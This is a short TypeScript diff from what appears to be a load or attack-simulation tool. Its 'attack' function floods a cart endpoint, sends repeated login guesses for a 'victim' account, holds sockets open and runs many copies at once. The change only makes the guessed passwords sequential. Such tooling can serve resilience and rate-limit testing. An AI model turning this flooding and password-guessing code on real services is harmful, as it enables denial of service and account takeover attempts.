@@ -42,7 +42,8 @@ export async function attack(
   };
   const post = (path: string, body: object) => send(options, agent, path, body);
   const flood = () => post("/cart/items", { sku: "abacus" });
-  const guess = () => post("/login", { username: options.victim, password: `${Math.random()}` });
+  let guesses = 0;
+  const guess = () => post("/login", { username: options.victim, password: `guess ${guesses++}` });
   const slow = holdSockets(options);
   const crowd = [flood, guess].flatMap((ask) => Array.from({ length: AT_ONCE }, () => again(ask)));
   try {
